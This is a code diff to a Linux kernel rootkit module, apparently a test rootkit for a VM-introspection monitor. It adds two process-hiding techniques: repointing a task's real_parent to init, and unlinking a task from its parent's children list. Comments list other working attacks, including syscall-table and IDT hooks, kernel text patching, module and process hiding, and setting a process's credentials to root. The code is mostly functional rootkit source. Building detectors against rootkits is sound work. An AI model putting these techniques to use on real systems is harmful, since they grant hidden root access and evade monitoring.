@@ -7,6 +7,8 @@
  *   echo 'syscall 1' > /proc/avm_rootkit     (0 switches it off again)
  *   echo 'hide_pid 123' > /proc/avm_rootkit  (hide_pid 0: unhide)
  *   echo 'root_pid 123' > /proc/avm_rootkit  (root_pid 0: restore)
+ *   echo 'reparent_pid 123' > /proc/avm_rootkit  (reparent_pid 0: restore)
+ *   echo 'untree_pid 123' > /proc/avm_rootkit    (untree_pid 0: relink)
  *   cat /proc/avm_rootkit                    (one "name value" line each)
  *
  * Attacks: syscall (sys_call_table[__NR_getpid] -> a module function that
@@ -15,7 +17,11 @@
  * fentry site), rodata (one letter of a BTF type name changes case), fops
  * (tcp_prot.init -> a module wrapper that counts and calls the original),
  * hide_module (THIS_MODULE unlinked from the module list), hide_pid (a
- * task unlinked from the task list), root_pid (a task's cred ids set to 0).
+ * task unlinked from the task list), root_pid (a task's cred ids set to 0),
+ * reparent_pid (a task's real_parent pointed at init, the task left on its
+ * parent's children list: what hides a root process under a user's from a
+ * check of real_parent), untree_pid (a task taken off its parent's children
+ * list, left on the task list).
  * Each "off" writes back exactly what "on" saved. Only ever loaded into the
  * test Mon-VM.
  *
@@ -453,18 +459,128 @@ static int root_task(pid_t nr)
 	return 0;
 }
 
+/* ---- (i) reparent_pid: real_parent pointed at init, children untouched ---- */
+
+static struct task_struct *reparented_task, *reparented_from;
+
+static void restore_parent(void)
+{
+	struct task_struct *t = reparented_task;
+
+	if (!t)
+		return;
+	write_lock_irq(tasklist_lock_p);
+	/* the parent is held: the test ends neither while reparented */
+	if (pid_alive(t))
+		t->real_parent = reparented_from;
+	write_unlock_irq(tasklist_lock_p);
+	put_task_struct(reparented_from);
+	put_task_struct(t);
+	reparented_task = reparented_from = NULL;
+}
+
+static int reparent_task(pid_t nr)
+{
+	struct task_struct *t, *init;
+	int err = 0;
+
+	if (!tasklist_lock_p)
+		return -ENOENT;
+	restore_parent();
+	if (nr <= 0)
+		return 0;
+	t = get_task(nr);
+	if (!t)
+		return -ESRCH;
+	init = get_task(1);
+	if (!init || !thread_group_leader(t) || t->pid <= 1) {
+		if (init)
+			put_task_struct(init);
+		put_task_struct(t);
+		return -EINVAL;
+	}
+	write_lock_irq(tasklist_lock_p);
+	if (!pid_alive(t)) {
+		err = -ESRCH;
+	} else {
+		reparented_from = t->real_parent;
+		get_task_struct(reparented_from);
+		t->real_parent = init;
+	}
+	write_unlock_irq(tasklist_lock_p);
+	put_task_struct(init);
+	if (err) {
+		put_task_struct(t);
+		return err;
+	}
+	reparented_task = t;
+	return 0;
+}
+
+/* ---- (j) untree_pid: a task taken off its parent's children list ---- */
+
+static struct task_struct *untreed_task;
+
+static void retree_task(void)
+{
+	struct task_struct *t = untreed_task;
+
+	if (!t)
+		return;
+	write_lock_irq(tasklist_lock_p);
+	if (pid_alive(t))
+		list_add_tail(&t->sibling, &t->real_parent->children);
+	write_unlock_irq(tasklist_lock_p);
+	untreed_task = NULL;
+	put_task_struct(t);
+}
+
+static int untree_task(pid_t nr)
+{
+	struct task_struct *t;
+	int err = 0;
+
+	if (!tasklist_lock_p)
+		return -ENOENT;
+	retree_task();
+	if (nr <= 0)
+		return 0;
+	t = get_task(nr);
+	if (!t)
+		return -ESRCH;
+	if (!thread_group_leader(t) || t->pid <= 1) {
+		put_task_struct(t);
+		return -EINVAL;
+	}
+	/* the children lists are only walked under tasklist_lock */
+	write_lock_irq(tasklist_lock_p);
+	if (pid_alive(t))
+		list_del_init(&t->sibling);
+	else
+		err = -ESRCH;
+	write_unlock_irq(tasklist_lock_p);
+	if (err) {
+		put_task_struct(t);
+		return err;
+	}
+	untreed_task = t;
+	return 0;
+}
+
 /* ---- /proc/avm_rootkit ---- */
 
 static int rk_show(char *buf, size_t size)
 {
 	return scnprintf(buf, size,
 			 "syscall %d\nidt %d\ntext %d\nrodata %d\nfops %d\nhide_module %d\n"
-			 "hide_pid %d\nroot_pid %d\n"
+			 "hide_pid %d\nroot_pid %d\nreparent_pid %d\nuntree_pid %d\n"
 			 "getpid_hook_calls %d\ntcp_init_hook_calls %d\n"
 			 "tcp_prot_init %s\n"
 			 "sys_call_table 0x%lx\nidt_gate 0x%lx\ntext_byte 0x%lx\nrodata_byte 0x%lx\n",
 			 syscall_on, idt_on, text_on, rodata_on, fops_on, module_hidden,
 			 hidden_task ? hidden_task->pid : 0, rooted_pid,
+			 reparented_task ? reparented_task->pid : 0,
+			 untreed_task ? untreed_task->pid : 0,
 			 atomic_read(&getpid_calls), atomic_read(&tcp_init_calls),
 			 READ_ONCE(tcp_prot.init) == hook_tcp_init ? "module" : "kernel",
 			 (unsigned long)sct, idt ? (unsigned long)&idt[RK_VECTOR] : 0,
@@ -512,6 +628,10 @@ static ssize_t rk_write(struct file *f, const char __user *ubuf, size_t count, l
 		err = hide_task(val);
 	else if (!strcmp(name, "root_pid"))
 		err = root_task(val);
+	else if (!strcmp(name, "reparent_pid"))
+		err = reparent_task(val);
+	else if (!strcmp(name, "untree_pid"))
+		err = untree_task(val);
 	else
 		err = -EINVAL;
 	mutex_unlock(&rk_lock);
@@ -583,6 +703,8 @@ static void __exit rk_exit(void)
 	set_hide_module(false);
 	hide_task(0);
 	root_task(0);
+	reparent_task(0);
+	untree_task(0);
 	mutex_unlock(&rk_lock);
 	synchronize_rcu();
 }
